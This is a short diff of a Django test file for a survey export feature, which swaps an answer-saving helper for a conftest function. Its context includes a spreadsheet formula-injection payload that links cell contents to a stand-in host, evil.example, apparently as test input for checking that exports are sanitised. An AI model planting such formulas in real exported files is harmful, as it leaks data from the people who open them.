@@ -13,8 +13,9 @@ from django.test.utils import CaptureQueriesContext
 
 from surveys.analysis import exports
 from surveys.models import Answer, Question, Response
-from surveys.respondent.services import answers_save, response_submit
+from surveys.respondent.services import response_submit
 from tests.factories import MembershipFactory, MunicipalityFactory, UserFactory
+from tests.surveys.conftest import save_posted
 
 URL = "/direktoratet/undersokelser/2026/eksport/"
 HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Klikk")'
@@ -192,7 +193,7 @@ LEADING = {
 
 def _answer_and_submit(edition, municipality, editor, signatory):
     number = municipality.number
-    result = answers_save(
+    result = save_posted(
         actor=editor,
         edition=edition,
         municipality=municipality,
